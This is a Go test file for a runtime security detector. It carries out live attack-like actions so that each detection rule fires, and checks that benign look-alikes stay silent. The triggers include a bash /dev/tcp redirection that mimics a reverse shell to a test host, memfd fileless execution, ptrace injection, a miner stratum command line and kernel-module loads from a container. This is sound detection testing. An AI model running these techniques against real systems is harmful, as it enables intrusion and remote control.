package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/lannersec/lanner/compiled"
	"github.com/lannersec/lanner/internal/testutil"
)

// TestLiveRules shows every default rule firing on a real action on this
// machine, and staying silent on a look-alike of that action, once with the
// eBPF collector and once with the audit collector. All actions of one
// collector run under one Lanner run (--rule-matching all); each action
// carries a marker of its own (in its command line, its parent's, a path
// or a container name), which ties the alerts to it afterwards.
//
// A trigger must raise its rule, and no other rule but those its case
// names in also; a look-alike must not raise the rule (nor any other rule
// but those named in benignAlso). A rule a collector cannot serve on this
// machine is logged with the reason, and its trigger is still performed.
func TestLiveRules(t *testing.T) {
	testutil.LockKernel(t)
	requireRuntimes(t)
	for _, tool := range []string{"bash", "perl", "/usr/bin/python3", "curl", "script", "shred", "dd", "passwd", "ssh", "systemctl", "unshare", "find", "ip"} {
		if _, err := exec.LookPath(tool); err != nil {
			testutil.RequireKernel(t, "the rules suite needs "+tool)
		}
	}
	cases := ruleCases()
	have := map[string]bool{}
	for _, c := range cases {
		if have[c.rule] {
			t.Errorf("two cases for %q", c.rule)
		}
		have[c.rule] = true
	}
	for _, r := range compiled.Rules {
		if !have[r.Name] {
			t.Errorf("default rule %q has no live case", r.Name)
		}
		delete(have, r.Name)
	}
	for name := range have {
		t.Errorf("live case for %q, which is not a default rule", name)
	}
	bin := lanner(t)
	host := testHost(t)
	sh := newSharedEnv(t, host)
	for _, collector := range []string{"ebpf", "audit"} {
		t.Run(collector, func(t *testing.T) {
			rulesScenario(t, bin, collector, sh, cases)
		})
	}
}

// ruleCase is the live test of one rule.
type ruleCase struct {
	rule string
	// trigger must raise the rule, benign must not. A nil trigger means
	// the rule cannot be shown on this machine at all (see cannot).
	trigger, benign action
	// also are other rules the trigger raises; benignAlso the rules the
	// look-alike raises.
	also, benignAlso []string
	// cannot gives, per collector ("*" for both), why the rule cannot be
	// shown here; the trigger is still performed.
	cannot map[string]string
	// kernelTypes are syscalls the trigger needs that this kernel may lack:
	// when the eBPF collector reports one "not in this kernel", the rule
	// cannot be shown with it.
	kernelTypes []string
}

// action is something done on the machine. setup runs before Lanner
// starts, do while it runs; both get the action's context.
type action struct {
	setup func(x *actx)
	do    func(x *actx)
}

func act(do func(x *actx)) action { return action{do: do} }

func actSetup(setup, do func(x *actx)) action { return action{setup: setup, do: do} }

// sharedEnv is what both collector runs use: helper binaries, programs,
// listeners and the test host.
type sharedEnv struct {
	dir       string // 0755, readable by nobody
	self      string
	host      string // test host listener, 198.51.100.2:8080
	minerPort string // 198.51.100.2:3333 on the test host
	netns     string
	loopback  string // a TCP listener on 127.0.0.1
	sleeper   int    // pid of a process the ptrace and /proc actions target
	ctrDir    string // mounted at /lnr in the shared container
	saDir     string // mounted as the service account directory
	helpers   map[string]string
}

func newSharedEnv(t *testing.T, host string) *sharedEnv {
	t.Helper()
	dir, err := os.MkdirTemp("", "lanner-rules-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	e := &sharedEnv{dir: dir, self: self, host: host, helpers: map[string]string{},
		netns: fmt.Sprintf("lanner-live-%d", os.Getpid())}

	// The mining pool port and the cloud metadata address on the test host.
	e.minerPort = "198.51.100.2:3333"
	netnsListener(t, e.netns, e.minerPort)
	run(t, "ip", "netns", "exec", e.netns, "ip", "addr", "add", "169.254.169.254/32", "dev", "lo")
	netnsListener(t, e.netns, "169.254.169.254:80")

	e.loopback = acceptAll(t, "tcp", "127.0.0.1:0")

	e.ctrDir = filepath.Join(dir, "ctr")
	e.saDir = filepath.Join(dir, "serviceaccount")
	for _, d := range []string{e.ctrDir, e.saDir} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	acceptAll(t, "unix", filepath.Join(e.ctrDir, "docker.sock"))
	acceptAll(t, "unix", filepath.Join(e.ctrDir, "app.sock"))
	for _, f := range []string{"token", "ca.crt"} {
		if err := os.WriteFile(filepath.Join(e.saDir, f), []byte("lanner test "+f+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	// A static build of this test binary runs as a helper in the busybox
	// containers, which have no C library: /lnr/lnr-helper there.
	build := exec.Command("go", "test", "-c", "-o", filepath.Join(e.ctrDir, "lnr-helper"), ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("static helper: %v\n%s", err, out)
	}

	sleeper := exec.Command("sleep", "600")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sleeper.Process.Kill(); sleeper.Wait() })
	e.sleeper = sleeper.Process.Pid
	return e
}

// helper returns the path of a helper process named name: the test binary
// linked (or copied) under that name.
func (e *sharedEnv) helper(t *testing.T, name string) string {
	if p, ok := e.helpers[name]; ok {
		return p
	}
	d := filepath.Join(e.dir, "h-"+name)
	if err := os.Mkdir(d, 0o755); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(d, name)
	if err := os.Link(e.self, p); err != nil {
		copyFile(t, e.self, p, 0o755)
	}
	e.helpers[name] = p
	return p
}

// program returns a copy of /usr/bin/true named name, for rules that look
// only at a program's name and arguments.
func (e *sharedEnv) program(t *testing.T, name string) string {
	d := filepath.Join(e.dir, "p-"+name)
	p := filepath.Join(d, name)
	if _, err := os.Stat(p); err == nil {
		return p
	}
	if err := os.Mkdir(d, 0o755); err != nil {
		t.Fatal(err)
	}
	copyFile(t, "/usr/bin/true", p, 0o755)
	return p
}

// netnsListener starts a TCP listener at addr in the network namespace ns.
func netnsListener(t *testing.T, ns, addr string) {
	t.Helper()
	self, _ := os.Executable()
	cmd := exec.Command("ip", "netns", "exec", ns, self, "listen", addr)
	cmd.Env = append(os.Environ(), helperEnv+"=1")
	out, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	buf := make([]byte, 64)
	n, _ := out.Read(buf)
	if !strings.HasPrefix(string(buf[:n]), "listening") {
		t.Fatalf("listener at %s in %s: %q", addr, ns, buf[:n])
	}
}

// acceptAll listens and accepts (and closes) connections until the test
// ends; it returns the listening address.
func acceptAll(t *testing.T, network, addr string) string {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	if network == "unix" {
		os.Chmod(addr, 0o777)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	return ln.Addr().String()
}

// actx is the context of one action.
type actx struct {
	t         *testing.T
	e         *sharedEnv
	marker    string // unique to the action, found in its alerts
	dir       string // a directory of the action's own
	container string // the shared container of this collector's run
	linger    string // how long a container shell stays after its action
	tag       string
}

// path returns a path in the action's directory with the marker in its name.
func (x *actx) path(suffix string) string { return filepath.Join(x.dir, x.marker+suffix) }

func (x *actx) write(path, content string, mode os.FileMode) {
	x.t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		x.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		x.t.Fatal(err)
	}
}

// removeLater removes path when the test ends.
func (x *actx) removeLater(path string) {
	x.t.Cleanup(func() { os.Remove(path) })
}

func (x *actx) helperCmd(name string, args ...string) *exec.Cmd {
	argv := append([]string{helperActionArg, x.marker}, args...)
	cmd := exec.Command(x.e.helper(x.t, name), argv...)
	cmd.Env = append(os.Environ(), helperEnv+"=1")
	return cmd
}

func (x *actx) runHelperCmd(cmd *exec.Cmd) {
	x.t.Helper()
	if out, err := cmd.CombinedOutput(); err != nil {
		x.t.Errorf("%s: %v\n%s", strings.Join(cmd.Args, " "), err, out)
	}
}

// h runs a helper process named name doing one action (see ruleAction).
func (x *actx) h(name string, args ...string) {
	x.t.Helper()
	x.runHelperCmd(x.helperCmd(name, args...))
}

// createrm has the helper named name create path and remove it again; path
// is also removed when the test ends, should the helper fail in between.
func (x *actx) createrm(name, path string) {
	x.t.Helper()
	x.removeIfNew(path)
	x.h(name, "createrm", path)
}

// creatermTTY is createrm by a helper on a terminal.
func (x *actx) creatermTTY(name, path string) {
	x.t.Helper()
	x.removeIfNew(path)
	x.hTTY(name, "createrm", path)
}

func (x *actx) removeIfNew(path string) {
	if _, err := os.Lstat(path); errors.Is(err, os.ErrNotExist) {
		x.removeLater(path)
	}
}

// hAs runs the helper as the user uid (and group gid).
func (x *actx) hAs(uid uint32, name string, args ...string) {
	x.t.Helper()
	cmd := x.helperCmd(name, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
	x.runHelperCmd(cmd)
}

// hTTY runs the helper on a terminal of its own (script(1) gives it a
// pseudo-terminal as its controlling terminal).
func (x *actx) hTTY(name string, args ...string) {
	x.t.Helper()
	argv := append([]string{x.e.helper(x.t, name), helperActionArg, x.marker}, args...)
	for i, a := range argv {
		argv[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	cmd := exec.Command("script", "-qec", strings.Join(argv, " "), "/dev/null")
	cmd.Env = append(os.Environ(), helperEnv+"=1", "SHELL=/bin/sh")
	x.runHelperCmd(cmd)
}

// run runs a program from a helper named lnrrun, so that the program's
// parent command line carries the marker. Its exit status is ignored:
// several actions are attempts that fail.
func (x *actx) run(argv ...string) {
	x.t.Helper()
	x.h("lnrrun", append([]string{"spawn"}, argv...)...)
}

// sh runs a shell script whose command line carries the marker.
func (x *actx) sh(script string) {
	x.t.Helper()
	x.run("/bin/sh", "-c", ": "+x.marker+"; "+script)
}

// cexec runs script in the shared container, in a shell whose command line
// carries the marker (docker exec, with a terminal when tty).
func (x *actx) cexec(tty bool, script string) {
	x.t.Helper()
	args := []string{"exec", "-e", helperEnv + "=1"}
	if tty {
		args = append(args, "-t")
	}
	args = append(args, x.container, "sh", "-c", ": "+x.marker+"; "+script+"; sleep "+x.linger)
	if out, err := exec.Command(dockerCLI, args...).CombinedOutput(); err != nil {
		x.t.Errorf("docker exec %q: %v\n%s", script, err, out)
	}
}

// csetup runs script in the shared container before Lanner starts.
func (x *actx) csetup(script string) {
	x.t.Helper()
	cmdOutput(x.t, dockerCLI, "exec", x.container, "sh", "-c", script)
}

// dockerStart starts a container named after the marker whose first
// process sleeps for the linger time, after which the container removes
// itself; it does not wait for that.
func (x *actx) dockerStart(args ...string) {
	x.t.Helper()
	name := "lanner-rules-" + x.marker + "-" + x.tag
	argv := append([]string{"-d", "--rm"}, args...)
	argv = append(argv, testImage, "sleep", x.linger)
	dockerRun(x.t, name, argv...)
}

// ctrInTestHost runs command in a containerd container that looks like a
// Kubernetes pod's and shares the test host's network namespace.
func (x *actx) ctrInTestHost(command string) {
	x.t.Helper()
	t := x.t
	id := randomHex(t, 64)
	podUID := fmt.Sprintf("%s-%s-%s-%s-%s", randomHex(t, 8), randomHex(t, 4), randomHex(t, 4), randomHex(t, 4), randomHex(t, 12))
	cgroup := "/kubepods/besteffort/pod" + podUID + "/" + id
	t.Cleanup(func() {
		exec.Command("ctr", "-n", "k8s.io", "tasks", "delete", "-f", id).Run()
		exec.Command("ctr", "-n", "k8s.io", "containers", "delete", id).Run()
		dirs, _ := filepath.Glob("/sys/fs/cgroup/*/kubepods/besteffort/pod" + podUID)
		for _, d := range append(dirs, "/sys/fs/cgroup/unified/kubepods/besteffort/pod"+podUID) {
			os.Remove(filepath.Join(d, id))
			os.Remove(d)
		}
	})
	cmd := exec.Command("ctr", "-n", "k8s.io", "run", "--rm", "--rootfs", "--env", "PATH=/bin:/sbin:/usr/bin",
		"--with-ns", "network:/var/run/netns/"+x.e.netns, "--env", helperEnv+"=1",
		"--mount", "type=bind,src="+x.e.ctrDir+",dst=/lnr,options=rbind:ro",
		"--label", "lanner.test=1",
		"--label", "io.kubernetes.pod.name=web-"+x.marker, "--label", "io.kubernetes.pod.namespace=lanner-test",
		"--label", "io.kubernetes.pod.uid="+podUID, "--label", "io.kubernetes.container.name=app",
		"--cgroup", cgroup, containerRootfs(), id, "sh", "-c", ": "+x.marker+"; "+command+"; sleep "+x.linger)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("ctr run: %v\n%s", err, out)
	}
}

// helperActionArg is the first argument of a helper started to perform
// one action of the rules suite: `<helper> do MARKER COMMAND ARGS...`.
const helperActionArg = "do"

// ruleAction performs one action of the rules suite in a helper process
// and returns its exit status. args are MARKER COMMAND ARGS...
func ruleAction(args []string) int {
	if err := doRuleAction(args); err != nil {
		fmt.Fprintln(os.Stderr, "err:", err)
		return 1
	}
	return 0
}

func doRuleAction(args []string) error {
	if len(args) < 2 {
		return errors.New("usage: do MARKER COMMAND [ARGS...]")
	}
	cmd, a := args[1], args[2:]
	need := func(n int) error {
		if len(a) < n {
			return fmt.Errorf("%s needs %d arguments", cmd, n)
		}
		return nil
	}
	switch cmd {
	case "setuid0", "uffd", "unshare", "drop", "dropregain", "dropuffd":
	default:
		if err := need(1); err != nil {
			return err
		}
	}
	switch cmd {
	case "spawn", "spawnenv": // run a program; its exit status does not matter
		c := exec.Command(a[0], a[1:]...)
		if cmd == "spawnenv" {
			if err := need(2); err != nil {
				return err
			}
			c = exec.Command(a[1], a[2:]...)
			c.Env = append(os.Environ(), a[0])
		}
		err := c.Run()
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			err = nil
		}
		return err
	case "open": // open and read
		f, err := os.Open(a[0])
		if err != nil {
			return err
		}
		f.Read(make([]byte, 1))
		return f.Close()
	case "openat2": // openat2(AT_FDCWD, a[0], O_RDONLY)
		fd, err := unix.Openat2(unix.AT_FDCWD, a[0], &unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC})
		if err != nil {
			return fmt.Errorf("openat2: %w", err)
		}
		return unix.Close(fd)
	case "openat", "openat2dir": // open directory a[0], then a[1] relative to it (openat or openat2)
		if err := need(2); err != nil {
			return err
		}
		dir, err := unix.Open(a[0], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		var fd int
		if cmd == "openat" {
			fd, err = unix.Openat(dir, a[1], unix.O_RDONLY|unix.O_CLOEXEC, 0)
		} else {
			fd, err = unix.Openat2(dir, a[1], &unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC})
		}
		if err != nil {
			return err
		}
		return unix.Close(fd)
	case "openatdup": // open directories a[0] and a[1], put the second under the first's number (dup2), open a[2] relative to it
		if err := need(3); err != nil {
			return err
		}
		first, err := unix.Open(a[0], unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		second, err := unix.Open(a[1], unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		if err := unix.Dup2(second, first); err != nil {
			return err
		}
		fd, err := unix.Openat(first, a[2], unix.O_RDONLY, 0)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	case "openw": // open an existing file for writing, and write nothing
		f, err := os.OpenFile(a[0], os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			return err
		}
		return f.Close()
	case "createrm": // create an empty file and remove it again (open for writing if it exists)
		if _, err := os.Lstat(a[0]); err == nil {
			f, err := os.OpenFile(a[0], os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				return err
			}
			return f.Close()
		}
		f, err := os.OpenFile(a[0], os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
		if err != nil {
			return err
		}
		f.Close()
		return os.Remove(a[0])
	case "connect":
		c, err := net.DialTimeout("tcp", a[0], 3*time.Second)
		if err != nil {
			return err
		}
		return c.Close()
	case "connectunix":
		c, err := net.DialTimeout("unix", a[0], 3*time.Second)
		if err != nil {
			return err
		}
		return c.Close()
	case "dupsock": // put a TCP connection on standard error for a moment
		c, err := net.DialTimeout("tcp", a[0], 3*time.Second)
		if err != nil {
			return err
		}
		defer c.Close()
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		defer f.Close()
		saved, err := unix.Dup(2)
		if err != nil {
			return err
		}
		defer unix.Close(saved)
		if err := unix.Dup2(int(f.Fd()), 2); err != nil {
			return err
		}
		return unix.Dup2(saved, 2)
	case "memfdexec": // run /usr/bin/true from an anonymous memory file named a[0]
		fd, err := unix.MemfdCreate(a[0], 0)
		if err != nil {
			return err
		}
		data, err := os.ReadFile("/usr/bin/true")
		if err != nil {
			return err
		}
		mf := os.NewFile(uintptr(fd), a[0])
		defer mf.Close()
		if _, err := mf.Write(data); err != nil {
			return err
		}
		// The fd is inherited (no close-on-exec): the child executes its
		// own copy of it.
		return exec.Command(fmt.Sprintf("/proc/self/fd/%d", fd)).Run()
	case "finit": // try to load a kernel module from the file a[0]
		f, err := os.Open(a[0])
		if err != nil {
			return err
		}
		defer f.Close()
		empty := []byte{0}
		unix.Syscall(unix.SYS_FINIT_MODULE, f.Fd(), uintptr(unsafe.Pointer(&empty[0])), 0)
		return nil
	case "ptrace": // attach to the process a[1]; "inject" also rewrites a word of its stack with the same value
		if err := need(2); err != nil {
			return err
		}
		var pid int
		if _, err := fmt.Sscan(a[1], &pid); err != nil {
			return err
		}
		runtime.LockOSThread()
		if err := syscall.PtraceAttach(pid); err != nil {
			return fmt.Errorf("attach: %w", err)
		}
		var ws syscall.WaitStatus
		if _, err := syscall.Wait4(pid, &ws, unix.WALL, nil); err != nil {
			return err
		}
		if a[0] == "inject" {
			var regs syscall.PtraceRegs
			if err := syscall.PtraceGetRegs(pid, &regs); err != nil {
				return err
			}
			word := make([]byte, 8)
			if _, err := syscall.PtracePeekData(pid, stackPointer(&regs), word); err != nil {
				return err
			}
			if _, err := syscall.PtracePokeData(pid, stackPointer(&regs), word); err != nil {
				return err
			}
		}
		return syscall.PtraceDetach(pid)
	case "setuid0":
		if _, _, e := unix.RawSyscall(unix.SYS_SETUID, 0, 0, 0); e != 0 {
			return e
		}
		return nil
	case "drop", "dropregain", "dropuffd":
		// Become nobody (every thread), then, for dropregain and
		// dropuffd, ask for uid 0 back (refused), and for dropuffd
		// create a userfaultfd as nobody.
		if err := syscall.Setgid(65534); err != nil {
			return err
		}
		if err := syscall.Setuid(65534); err != nil {
			return err
		}
		if cmd == "drop" {
			return nil
		}
		if _, _, e := unix.RawSyscall(unix.SYS_SETUID, 0, 0, 0); e != unix.EPERM {
			return fmt.Errorf("setuid(0) as nobody: %v", e)
		}
		if cmd == "dropregain" {
			return nil
		}
		return doRuleAction([]string{args[0], "uffd"})
	case "bpf": // load a two-instruction socket filter ("prog") or create an array map ("map")
		return bpfAction(a[0])
	case "uffd":
		const uffdUserModeOnly = 1
		fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|uffdUserModeOnly, 0, 0)
		if e != 0 {
			return e
		}
		return unix.Close(int(fd))
	case "unshare": // a new UTS namespace for this thread
		runtime.LockOSThread()
		return unix.Unshare(unix.CLONE_NEWUTS)
	}
	return fmt.Errorf("unknown command %q", cmd)
}

func bpfAction(what string) error {
	var attr []byte
	var cmd uintptr
	switch what {
	case "prog":
		insns := []uint64{0x00000000000000b7, 0x0000000000000095} // r0 = 0; exit
		license := []byte("GPL\x00")
		type progLoad struct {
			progType, insnCnt  uint32
			insns, license     uint64
			logLevel, logSize  uint32
			logBuf             uint64
			kernVersion, flags uint32
		}
		p := progLoad{progType: 1, insnCnt: 2, insns: uint64(uintptr(unsafe.Pointer(&insns[0]))),
			license: uint64(uintptr(unsafe.Pointer(&license[0])))}
		attr = unsafe.Slice((*byte)(unsafe.Pointer(&p)), unsafe.Sizeof(p))
		cmd = 5 // BPF_PROG_LOAD
		defer runtime.KeepAlive(insns)
		defer runtime.KeepAlive(license)
	case "map":
		m := [4]uint32{2, 4, 4, 1} // BPF_MAP_TYPE_ARRAY, key and value size 4, one entry
		attr = unsafe.Slice((*byte)(unsafe.Pointer(&m)), unsafe.Sizeof(m))
		cmd = 0 // BPF_MAP_CREATE
	default:
		return fmt.Errorf("bpf %q", what)
	}
	fd, _, e := unix.Syscall(unix.SYS_BPF, cmd, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	if e != 0 {
		return fmt.Errorf("bpf %s: %w", what, e)
	}
	return unix.Close(int(fd))
}

// coverageLine is a rule the collector does not fully serve, as logged
// by `lanner run` at start (a "rule coverage" record).
var coverageLine = regexp.MustCompile(`(?m)msg="rule coverage" collector=\S+ rule=("(?:[^"\\]|\\.)*"|\S*) coverage=(partial|blind) reasons=("(?:[^"\\]|\\.)*"|\S*)$`)

// coverageLines returns, for each rule coverage record of stderr, the
// record, the coverage (partial or blind), the rule and the reasons.
func coverageLines(stderr string) [][]string {
	value := func(v string) string {
		if u, err := strconv.Unquote(v); err == nil {
			return u
		}
		return v
	}
	var out [][]string
	for _, m := range coverageLine.FindAllStringSubmatch(stderr, -1) {
		out = append(out, []string{m[0], m[2], value(m[1]), value(m[3])})
	}
	return out
}

// notInKernel lists the syscalls the eBPF collector reports this kernel
// lacks.
var notInKernel = regexp.MustCompile(`not in this kernel: ([a-z0-9_,]+)`)

func rulesScenario(t *testing.T, bin, collector string, e *sharedEnv, cases []ruleCase) {
	tag := randomHex(t, 6)
	dir := t.TempDir()
	linger := "0"
	if collector == "audit" {
		// The audit collector reads a process's container from
		// /proc/PID/cgroup when it handles the exec; the shell of a
		// container action must still be there.
		linger = "0.5"
	}

	// The shared container: actions inside it are docker execs. Without a
	// seccomp filter the namespace and module syscalls of the actions
	// reach the kernel (and fail there for lack of privilege), where both
	// collectors see them; Docker's default filter refuses them before
	// the audit subsystem looks.
	shared := "lanner-rules-shared-" + collector + "-" + tag
	dockerRun(t, shared, "-d", "--security-opt", "seccomp=unconfined",
		"-v", e.ctrDir+":/lnr:ro", "-v", e.saDir+":/var/run/secrets/kubernetes.io/serviceaccount:ro",
		testImage, "sleep", "600")

	xs := make([][2]*actx, len(cases))
	for i, c := range cases {
		for j, kind := range []string{"t", "b"} {
			x := &actx{t: t, e: e, marker: fmt.Sprintf("lnr%03d%s", i, kind),
				container: shared, linger: linger, tag: tag}
			x.dir = filepath.Join(dir, x.marker)
			if err := os.Mkdir(x.dir, 0o755); err != nil {
				t.Fatal(err)
			}
			xs[i][j] = x
		}
		for j, a := range []action{c.trigger, c.benign} {
			if a.setup != nil {
				a.setup(xs[i][j])
			}
		}
	}

	start := time.Now()
	l := startLanner(t, bin, "--collector", collector, "--rule-matching", "all")
	done := 0
	for i, c := range cases {
		for j, a := range []action{c.trigger, c.benign} {
			if a.do != nil {
				a.do(xs[i][j])
				done++
			}
		}
	}
	alerts := l.stop(t)
	if !strings.Contains(l.stderr.String(), `msg="collector started" collector=`+collector+" ") {
		t.Fatalf("lanner did not run the %s collector:\n%s", collector, l.stderr.String())
	}
	t.Logf("%d actions under one Lanner run with %s: %v, %d alerts", done, collector,
		time.Since(start).Round(100*time.Millisecond), len(alerts))

	coverage := map[string]string{}
	for _, m := range coverageLines(l.stderr.String()) {
		coverage[m[2]] = m[1] + ": " + m[3]
	}
	var missingTypes []string
	if m := notInKernel.FindStringSubmatch(l.stderr.String()); m != nil {
		missingTypes = strings.Split(m[1], ",")
	}

	byMarker := func(marker string) []alert {
		var out []alert
		for _, a := range alerts {
			if alertMentions(a, marker) {
				out = append(out, a)
			}
		}
		return out
	}
	var stray []alert
	for _, a := range alerts {
		tied := false
		for i := range cases {
			if alertMentions(a, xs[i][0].marker) || alertMentions(a, xs[i][1].marker) {
				tied = true
				break
			}
		}
		if !tied {
			stray = append(stray, a)
		}
	}
	if len(stray) > 0 {
		t.Logf("%d alerts of other activity on this machine: %s", len(stray), describe(stray))
	}
	var shown, silent []string
	notServable := map[string]string{}
	for i, c := range cases {
		trig, ben := byMarker(xs[i][0].marker), byMarker(xs[i][1].marker)
		t.Run(c.rule, func(t *testing.T) {
			why := c.cannot[collector]
			if why == "" {
				why = c.cannot["*"]
			}
			if collector == "ebpf" {
				var lacking []string
				for _, k := range c.kernelTypes {
					if contains(missingTypes, k) {
						lacking = append(lacking, k)
					}
				}
				if len(lacking) > 0 {
					why = "the eBPF collector does not watch " + strings.Join(lacking, " and ") + ": this kernel " +
						"does not implement them (no module support, CONFIG_MODULES=n) and every call fails with " +
						"ENOSYS; the attempt was made"
				}
			}
			if cov, ok := coverage[c.rule]; ok {
				t.Logf("coverage report: %s", cov)
			}
			fired := rulesOf(trig)
			if why != "" {
				notServable[c.rule] = why
				t.Logf("NOT SERVABLE with %s: %s", collector, why)
				if fired[c.rule] {
					t.Logf("(the trigger raised it all the same)")
				}
			} else {
				if !fired[c.rule] {
					t.Errorf("FALSE NEGATIVE: the trigger did not raise %q; its alerts: %s", c.rule, describe(trig))
				} else {
					shown = append(shown, c.rule)
				}
				for r := range fired {
					if r != c.rule && !contains(c.also, r) {
						t.Errorf("the trigger also raised %q: %s", r, describe(trig))
					}
				}
			}
			if c.benign.do == nil {
				return
			}
			benign := rulesOf(ben)
			if benign[c.rule] {
				t.Errorf("FALSE POSITIVE: the look-alike raised %q: %s", c.rule, describe(ben))
			} else if why == "" {
				silent = append(silent, c.rule)
			}
			for r := range benign {
				if r != c.rule && !contains(c.benignAlso, r) {
					t.Errorf("the look-alike raised %q: %s", r, describe(ben))
				}
			}
		})
	}
	var ns []string
	for r, why := range notServable {
		ns = append(ns, r+": "+why)
	}
	sort.Strings(ns)
	t.Logf("%s: %d rules shown firing, %d look-alikes silent, %d rules not servable here:\n  %s",
		collector, len(shown), len(silent), len(notServable), strings.Join(ns, "\n  "))
	if t.Failed() {
		t.Logf("lanner stderr:\n%s", l.stderr.String())
	}
}

// alertMentions says whether an alert names marker in its text or fields.
func alertMentions(a alert, marker string) bool {
	if strings.Contains(a.Output, marker) {
		return true
	}
	for _, v := range a.OutputFields {
		if strings.Contains(fmt.Sprint(v), marker) {
			return true
		}
	}
	return false
}

func rulesOf(as []alert) map[string]bool {
	m := map[string]bool{}
	for _, a := range as {
		m[a.Rule] = true
	}
	return m
}

func describe(as []alert) string {
	if len(as) == 0 {
		return "none"
	}
	var b strings.Builder
	for _, a := range as {
		f, _ := json.Marshal(a.OutputFields)
		fmt.Fprintf(&b, "\n  %s: %s", a.Rule, f)
	}
	return b.String()
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// Reasons a rule cannot be shown with a collector on this machine.
const (
	noDNS        = "Lanner resolves no DNS names (fd.sip.name is always empty), so no connection names a mining pool"
	auditNoEnv   = "audit does not log the environment (proc.env), so LD_PRELOAD is not known"
	auditNoLayer = "audit does not say whether an executable lives in the container's writable layer (proc.is_exe_upper_layer)"
	// The coverage report says so for dup events (fd.* on dup, dup2, dup3).
	auditNoDupFD = "audit does not log what a duplicated descriptor refers to, so the socket put on a standard stream " +
		"is not known as one (fd.typechar is empty on dup events)"
)

// ruleCases are the live cases, one per default rule.
func ruleCases() []ruleCase {
	const testHostIP = "198.51.100.2"
	return []ruleCase{
		// ----- CRITICAL
		{
			rule: "Namespace Change Inside Container",
			// unshare(2) fails with EPERM without CAP_SYS_ADMIN; the rule
			// reports attempts.
			trigger: act(func(x *actx) { x.cexec(false, "/usr/bin/unshare -n true 2>/dev/null") }),
			benign:  act(func(x *actx) { x.run("unshare", "-n", "true") }),
		},
		{
			rule: "Kernel Module Loaded From Container",
			trigger: actSetup(func(x *actx) { x.csetup("echo module >/tmp/" + x.marker + ".ko") },
				func(x *actx) { x.cexec(false, "/sbin/insmod /tmp/"+x.marker+".ko 2>/dev/null") }),
			benign: actSetup(func(x *actx) { x.write(x.path(".ko"), "module\n", 0o644) },
				func(x *actx) { x.h("insmod", "finit", x.path(".ko")) }),
			kernelTypes: []string{"init_module", "finit_module"},
		},
		{
			rule: "Reverse Shell Socket Redirection",
			trigger: act(func(x *actx) {
				x.run("bash", "-c", ": "+x.marker+"; exec 3<>/dev/tcp/"+testHostIP+"/8080; exec 2>&3")
			}),
			benign: act(func(x *actx) { x.run("bash", "-c", ": "+x.marker+"; exec 3</etc/hostname; exec 2>&3") }),
			also:   []string{"Shell Opened Network Connection"},
			cannot: map[string]string{"audit": auditNoDupFD},
		},
		{
			rule:    "Inline Script Reverse Shell",
			trigger: act(func(x *actx) { x.run("/usr/bin/python3", "-c", "import socket, subprocess  # "+x.marker) }),
			benign:  act(func(x *actx) { x.run("/usr/bin/python3", "-c", "import socket  # "+x.marker) }),
		},
		{
			rule:    "Fileless Execution From Memory",
			trigger: act(func(x *actx) { x.h("lnrmemfd", "memfdexec", x.marker) }),
			benign:  act(func(x *actx) { x.h("lnrmemfd", "spawn", x.e.program(x.t, "lnrtrue")) }),
		},
		{
			rule:    "Crypto Miner Command Line",
			trigger: act(func(x *actx) { x.run("true", "-o", "stratum+tcp://"+x.marker+".invalid:3333") }),
			benign:  act(func(x *actx) { x.run("true", "-o", "tcp://"+x.marker+".invalid:3333") }),
		},
		{
			rule:   "Crypto Mining Pool Domain Contacted",
			cannot: map[string]string{"*": noDNS},
		},
		// ----- ERROR
		{
			rule: "Drifted Executable Run In Container",
			trigger: actSetup(func(x *actx) { x.csetup("cp /bin/busybox /tmp/" + x.marker + "; ln -s " + x.marker + " /tmp/true") },
				func(x *actx) { x.cexec(false, "/tmp/true") }),
			benign: act(func(x *actx) { x.cexec(false, "/bin/true") }),
			cannot: map[string]string{"audit": auditNoLayer},
		},
		{
			rule:    "New Executable Created In Container",
